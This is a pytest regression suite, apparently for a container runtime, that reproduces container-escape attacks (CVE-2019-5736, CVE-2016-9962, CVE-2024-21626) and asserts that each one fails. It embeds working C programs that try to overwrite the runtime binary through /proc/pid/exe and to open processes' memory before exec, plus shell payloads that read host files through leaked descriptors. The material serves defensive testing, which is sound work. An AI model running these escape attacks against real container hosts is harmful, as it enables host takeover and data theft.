# SPDX-License-Identifier: GPL-2.0-or-later
"""Known ways out of a container by way of the process that becomes its program: the runtime's own file (CVE-2019-5736), its
descriptors and working folder (CVE-2024-21626), the process itself before it is the program's (CVE-2016-9962), and what
it brings along: stdio, keys, IDs. Each test makes the attack; where it has to be fast, an attacker in C makes it."""

import re
import time

import pytest

import archive
import testbox
from archive import entry, symlink
from test_cp_attacks import compiled

# Watches for processes in sight that execute another file than the container's busybox or itself, holds that file, and
# writes to it once nobody executes it any more. Says what became of it.
OVERWRITER = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
int main(int argc, char **argv)
{
	struct stat own, box, st;
	char path[64];
	int held = -1;
	time_t end = time(NULL) + atoi(argv[1]);
	stat("/proc/self/exe", &own);
	stat("/bin/busybox", &box);
	puts("watching");
	fflush(stdout);
	while (held < 0 && time(NULL) < end)
		for (int pid = 1; pid < 400 && held < 0; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (stat(path, &st) == 0 && !same(&st, &own) && !same(&st, &box))
				held = open(path, O_RDONLY);
		}
	puts(held < 0 ? "nothing" : "held");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	while (held >= 0 && time(NULL) < end) {
		int fd = open(path, O_WRONLY);
		if (fd >= 0) {
			printf("written %zd\n", write(fd, "#!evil\n", 7));
			return 0;
		}
		if (errno != ETXTBSY) {
			printf("refused: %s\n", strerror(errno));
			return 0;
		}
		usleep(1000);
	}
	puts("end");
	return 0;
}
"""

# For as long as it is told, tries to get at new processes before they execute: open their memory, follow their descriptors.
# Says how often one could be got at that still was not what it was to be.
TRACER = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static int waits(int comm)
{
	char name[32];
	ssize_t n = pread(comm, name, sizeof(name), 0);
	return n > 0 && strncmp(name, "true", 4) != 0 && strncmp(name, "busybox", 7) != 0;
}
/* The kernel gives the new program its name last of all. */
static int is_program(int pid)
{
	char path[64], target[256] = "";
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	return readlink(path, target, sizeof(target) - 1) > 0 && strncmp(target, "/bin/", 5) == 0;
}
int main(int argc, char **argv)
{
	time_t end = time(NULL) + atoi(argv[1]);
	long seen = 0, memory = 0, links = 0;
	int last = getpid();
	puts("watching");
	fflush(stdout);
	while (time(NULL) < end)
		for (int pid = last + 1; pid < last + 8; pid++) {
			char path[64], target[256];
			snprintf(path, sizeof(path), "/proc/%d/comm", pid);
			int comm = open(path, O_RDONLY);
			if (comm < 0)
				continue;
			seen++;
			while (waits(comm)) {
				snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
				ssize_t n = readlink(path, target, sizeof(target) - 1);
				snprintf(path, sizeof(path), "/proc/%d/mem", pid);
				int fd = open(path, O_RDWR);
				if (waits(comm) && !is_program(pid)) {
					links += n > 0;
					memory += fd >= 0;
				}
				close(fd);
			}
			close(comm);
			last = pid;
		}
	printf("seen %ld memory %ld links %ld\n", seen, memory, links);
	return 0;
}
"""

# All descriptors of all processes in sight.
SHOW = b"""#!/bin/sh
sleep 0.3
for fd in /proc/[0-9]*/fd/*; do target=$(readlink $fd) && echo "$fd $target"; done
echo done
"""


@pytest.fixture(scope="module")
def attack_image(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attack")
    members = [entry(f"bin/{name}", data=compiled(tmp, name, source, "-static"), mode=0o755)
               for name, source in (("overwriter", OVERWRITER), ("tracer", TRACER))]
    members += [symlink("exe", "/proc/self/exe"), entry("bin/show", data=SHOW, mode=0o755)]
    members += [symlink(f"fd{n}", f"/proc/self/fd/{n}") for n in range(3, 12)]
    base = archive.layer(*testbox._base())
    image = archive.Image([base, archive.layer(*members)], {"Env": ["PATH=/bin"], "Cmd": ["sh"]})
    inside = archive.Image([base, archive.layer(*members)], {"Env": ["PATH=/bin"], "Cmd": ["sh"], "WorkingDir": "/fd7"})
    return [archive.docker_archive(tmp / "escapes.tar", image, ["escapes:latest"]),
            archive.docker_archive(tmp / "escapes-dir.tar", inside, ["escapes-dir:latest"])]


@pytest.fixture
def evil(machine, attack_image):
    for path in attack_image:
        machine.ok(f"docker images | grep -q '^{path.stem} ' || docker load -i {machine.link(path)}")
    return machine


@pytest.fixture(scope="module", autouse=True)
def remove_images(places, attack_image):
    yield
    for machine in places.made.values():
        machine.run("docker rmi -f escapes escapes-dir")


# ---- CVE-2019-5736: the runtime's own file

@pytest.fixture
def victim(evil):
    """A copy of the program, for it is damaged where the attack succeeds."""
    folder = evil.ok("mktemp -d /tmp/knarr-victim.XXXXXX").strip()
    evil.ok(f"cp {evil.binary} {folder}/knarr")
    yield f"{folder}/knarr"
    evil.run(f"rm -rf {folder}")


def held_and_refused(machine, victim, name):
    out = machine.until(f"docker logs {name}", "refused|written|end|nothing")
    assert "held" in out, "the attacker must get hold of the file, or nothing is shown"
    assert "refused: Read-only file system" in out and "written" not in out
    assert machine.run(f"cmp {machine.binary} {victim}").status == 0


@pytest.mark.parametrize("program", ["/proc/self/exe", pytest.param("/exe", marks=pytest.mark.host_is_enough)])
def test_runtime_is_overwritten_from_an_exec(evil, victim, program):
    """The attacker waits in the container for an exec of what leads to the runtime's own file."""
    evil.ok("docker run -d --name victim escapes overwriter 20")
    evil.until("docker logs victim", "watching")
    evil.run(f"(sleep 1 | {victim} exec -i victim {program} load) >/dev/null 2>&1")
    held_and_refused(evil, victim, "victim")


@pytest.mark.parametrize("program", ["/proc/self/exe", pytest.param("/exe", marks=pytest.mark.host_is_enough)])
def test_runtime_is_overwritten_from_a_run(evil, victim, program):
    """The image's own program is the runtime's file; the attacker sees it in a pid namespace that both share."""
    evil.ok("docker run -d --name victim escapes overwriter 20")
    evil.until("docker logs victim", "watching")
    evil.run(f"(sleep 1 | {victim} run --rm -i --pid container:victim --entrypoint {program} escapes load) >/dev/null 2>&1")
    held_and_refused(evil, victim, "victim")


@pytest.mark.host_is_enough
def test_init_of_ours_shows_nothing(evil):
    """With --init the runtime's file is executed as long as the container runs."""
    out = evil.ok("docker run --rm --init escapes sh -c 'cat /proc/1/comm; readlink /proc/1/exe; ls /proc/1/fd; "
                  "head -c 20 /proc/1/environ; head -c 20 /proc/1/maps; overwriter 1' 2>&1; true")
    assert out.startswith("knarr-init\n")
    assert out.count("ermission denied") >= 2 and "nothing" in out, out


def test_init_of_ours_cannot_be_written(evil, victim):
    """Nor by one who may trace everything: the file is busy, and where it is not, read-only."""
    out = evil.run(f"{victim} run --rm --init --cap-add SYS_PTRACE escapes sh -c "
                   "'(exec 3<>/proc/1/exe) 2>&1; mount -o remount,rw /proc/1/exe 2>&1; overwriter 2'").out
    assert "held" in out and "written" not in out
    assert evil.run(f"cmp {evil.binary} {victim}").status == 0


# ---- CVE-2016-9962: the process that execs is got at before it is the container's

@pytest.mark.host_is_enough  # a race wants speed
@pytest.mark.parametrize("options", ["", "--userns auto --cap-add SYS_PTRACE"])
def test_exec_is_traced_before_it_executes(evil, options):
    """Even with every right to trace what is inside, where the container's root is not the machine's."""
    evil.ok(f"docker run -d --name traced {options} escapes tracer 4")
    evil.until("docker logs traced", "watching")
    evil.ok("end=$(( $(date +%s) + 2 )); while [ $(date +%s) -lt $end ]; do docker exec traced true; done")
    out = evil.until("docker logs traced", "seen")
    seen, memory, links = map(int, re.search(r"seen (\d+) memory (\d+) links (\d+)", out).groups())
    assert seen > 5, out
    assert (memory, links) == (0, 0), out


# ---- CVE-2024-21626: a descriptor of the machine's, as working folder or at all

def leaking(command):
    """The command, started with folders of the machine's open in it."""
    return f"cd /tmp/knarr-leak && exec 7</tmp/knarr-leak 8</ 9</tmp/knarr-leak/secret && {command}"


@pytest.fixture
def leak(evil):
    evil.ok("mkdir -p /tmp/knarr-leak && echo MACHINE >/tmp/knarr-leak/secret")
    yield evil
    evil.run("rm -rf /tmp/knarr-leak")


LOOK = "'cat secret ../secret tmp/knarr-leak/secret ../tmp/knarr-leak/secret ../../tmp/knarr-leak/secret ../../../tmp/knarr-leak/secret 2>&1'"


@pytest.mark.host_is_enough
@pytest.mark.parametrize("folder", ["/proc/self/fd/{}", "/proc/self/fd/{}/..", "/fd{}", "/fd{}/../../tmp/knarr-leak", "/proc/1/fd/{}",
                                    "/proc/thread-self/fd/{}", "/proc/self/fd/../fd/{}", "/proc/self/task/1/fd/{}"])
def test_working_folder_is_a_descriptor(leak, folder):
    words = "; ".join(f"docker run --rm -w {folder.format(n)} escapes sh -c {LOOK}" for n in (3, 4, 5, 6, 7, 8, 10))
    assert "MACHINE" not in leak.run(leaking(words)).out
    leak.ok("docker run -d --name inside escapes sleep 1000")
    words = "; ".join(f"docker exec -w {folder.format(n)} inside sh -c {LOOK}" for n in (3, 4, 5, 6, 7, 8, 10))
    assert "MACHINE" not in leak.run(leaking(words)).out


@pytest.mark.host_is_enough
def test_working_folder_of_the_image_is_a_descriptor(leak):
    out = leak.run(leaking(f"docker run --rm escapes-dir sh -c {LOOK}"))
    assert "MACHINE" not in out.out
    assert out.status != 0, "the folder is a link of /proc's, which leads nowhere"


@pytest.mark.host_is_enough
def test_working_folder_becomes_a_descriptor_meanwhile(leak):
    """The folder is exchanged for a link to a descriptor all the time."""
    leak.ok("docker run -d --name inside escapes sh -c 'mkdir /w; while :; do mv /w /x; ln -s /proc/self/fd/7 /w; rm /w; mv /x /w; done'")
    words = f"for i in $(seq 40); do docker exec -w /w inside sh -c {LOOK}; done"
    assert "MACHINE" not in leak.run(leaking(words)).out


@pytest.mark.host_is_enough
@pytest.mark.parametrize("options", ["", "-i", "-t", "-d", "--init", "-d --init", "--userns auto", "--privileged"])
def test_no_descriptor_comes_along(leak, options):
    leak.ok(leaking(f"docker run {options} --name shown escapes show"))
    lines = leak.until("docker logs shown", "done").replace("\r", "").splitlines()
    found = [line for line in lines if re.match(r"/proc/\d+/fd/\d+ ", line)]
    assert found
    for line in found:
        # /bin/show is what the shell reads
        assert re.fullmatch(r"\S+ (pipe:\[\d+\]|/dev/null|/dev/pts/\d+|/dev/console|/bin/show|/proc/.*)", line), line


@pytest.mark.host_is_enough
def test_no_descriptor_comes_along_with_exec(leak):
    leak.ok(leaking("docker run -d --name shown escapes sleep 1000"))
    for options in ("", "-i", "-t", "-u 1000"):
        out = leak.ok(leaking(f"docker exec {options} shown show")).replace("\r", "")
        for line in out.splitlines()[:-1]:
            assert re.fullmatch(r"\S+ (pipe:\[\d+\]|/dev/null|/dev/pts/\d+|/bin/show|/proc/.*)", line), line


def pid_of(machine, name):
    return machine.ok(f"docker inspect -f '{{{{.State.Pid}}}}' {name}").strip()


@pytest.mark.host_is_enough
@pytest.mark.parametrize("options", ["", "--init", "--userns auto"])
def test_descriptors_as_the_machine_sees_them(leak, options):
    leak.ok(leaking(f"docker run -d --name shown {options} escapes sleep 47110815"))
    leak.ok(leaking("docker exec -d shown sleep 47110816"))
    time.sleep(0.3)
    pids = leak.ok("for p in /proc/[0-9]*; do case $(tr '\\0' ' ' <$p/cmdline) in 'sleep 4711'*) echo ${p#/proc/};; esac; done 2>/dev/null").split()
    pids.append(pid_of(leak, "shown"))
    assert len(pids) == 3
    for pid in pids:
        assert leak.ok(f"ls /proc/{pid}/fd").split() == ["0", "1", "2"]


@pytest.mark.host_is_enough
# ---- What it brings along

@pytest.mark.parametrize("command", ["run --rm escapes", "run --rm -u 1000 escapes", "run --rm --init escapes", "run --rm --privileged escapes",
                                     "run --rm --userns auto escapes", "exec inside", "exec -d inside"])
def test_null_device_is_not_the_machines(evil, command):
    """Mode and owner of what is a container's stdin are its root's to change."""
    if command.startswith("exec"):
        evil.ok("docker run -d --name inside escapes sleep 1000")
    show = "stat -c '%a %u %g' /dev/null" if evil.name == "host" else "ls -ln /dev/null | cut -c1-30"
    before = evil.ok(show)
    evil.run(f"docker {command} sh -c 'for i in 0 1 2; do chmod 600 /proc/self/fd/$i; chown 1000 /proc/self/fd/$i; done' "
             "</dev/null >/dev/null 2>/dev/null")
    time.sleep(0.2)
    assert evil.ok(show) == before


def test_root_of_a_user_namespace_is_nobody(evil):
    evil.ok("docker run -d --name one --userns auto escapes sleep 1000")
    evil.ok("docker run -d --name two --userns auto escapes sleep 1000")
    owners = {}
    for name in ("one", "two"):
        uids = evil.ok(f"grep -E '^[UG]id:' /proc/{pid_of(evil, name)}/status").split()
        owners[name] = {int(uid) for uid in uids if uid.isdigit()}
        assert len(owners[name]) == 1 and min(owners[name]) >= 0x40000000
    assert owners["one"] != owners["two"], "what one's root may, the other's may not"
    assert evil.ok("docker exec one id -u") == "0\n"
    assert evil.ok("docker exec -u 1000 one sh -c 'id -u; echo again >/dev/stdout'") == "1000\nagain\n"


def test_life_in_a_user_namespace(evil):
    """What --userns auto must not break: its files are its own, in and out, now and later."""
    evil.ok("docker run -d --name one --userns auto escapes sh -c 'mkdir -m 700 /own && echo hello >/own/f && "
            "chown -R 1234:1235 /own; echo said; sleep 1000'")
    evil.until("docker logs one", "said")
    assert evil.ok("docker exec one stat -c '%u %g' /own/f") == "1234 1235\n"
    evil.ok("mkdir -p /tmp/knarr-ids && echo in >/tmp/knarr-ids/in && docker cp /tmp/knarr-ids/in one:/own/in && docker cp -a one:/own /tmp/knarr-ids/out")
    assert evil.ok("docker exec one stat -c '%u %g' /own/in") == "0 0\n"
    assert evil.ok("cat /tmp/knarr-ids/out/f; stat -c '%u %g' /tmp/knarr-ids/out/f /tmp/knarr-ids/out/in") == "hello\n1234 1235\n0 0\n"
    assert "1234/1235" in evil.ok("docker cp one:/own/f - | tar tvf -")
    assert "1234/1235" in evil.ok("docker export one | tar tvf - own/f")
    evil.ok("tar cf - -C /tmp/knarr-ids/out f | docker cp - one:/tmp")
    assert evil.ok("docker exec one stat -c '%u %g' /tmp/f") == "1234 1235\n"
    assert "A /own/f" in evil.ok("docker diff one")
    evil.ok("docker commit one from-one")
    assert evil.ok("docker run --rm from-one stat -c '%u %g' /own/f") == "1234 1235\n"
    evil.ok("docker stop -t 0 one && docker start one")
    assert evil.until("docker exec one stat -c '%u %g' /own/in", "0 0") == "0 0\n"
    evil.ok("docker stop -t 0 one")
    evil.ok("docker cp one:/own/f /tmp/knarr-ids/stopped && docker rm -f one && docker rmi from-one && rm -rf /tmp/knarr-ids")


@pytest.mark.host_is_enough
def test_files_of_the_machine_are_closed_to_a_user_namespace(evil):
    """What slips through to it some other way belongs to nobody there. Here it is procfs: the machine's processes are not its."""
    evil.ok("docker run -d --name one --userns auto --network host escapes sleep 1000")
    assert evil.run("docker exec one sh -c 'echo 1 >/proc/sys/kernel/panic'").status != 0
    assert evil.run("docker exec one mount -o remount,rw /sys").status != 0
    assert evil.run("docker run --rm --userns auto --cap-add ALL --security-opt seccomp=unconfined escapes sh -c "
                    "'mount -o remount,rw /sys/fs/cgroup || mount -o remount,rw /proc/sys; mknod /d b 8 0 && head -c 1 /d'").status != 0
    # and the machine's own root, though he is root to all that is not mapped, was not needed for any of it
    assert evil.ok("docker exec one cat /proc/self/uid_map").split()[0] == "0"


@pytest.mark.host_is_enough
def test_init_reaps_and_passes_signals_on(machine):
    machine.ok("docker run -d --name begun --init busybox sh -c 'trap \"echo got; exit 5\" TERM; (sleep 0.1 &); echo up; while :; do sleep 0.1; done'")
    machine.until("docker logs begun", "up")
    time.sleep(0.5)
    assert "Z" not in machine.ok("docker exec begun ps -o stat | tail -n +2")
    machine.ok("docker stop -t 10 begun")
    assert machine.ok("docker wait begun") == "5\n"
    assert "got" in machine.ok("docker logs begun")
    assert machine.run("docker run --rm --init busybox sh -c 'kill -9 $$'").status == 137
    assert machine.run("docker run --rm --init busybox /nothing").status == 127
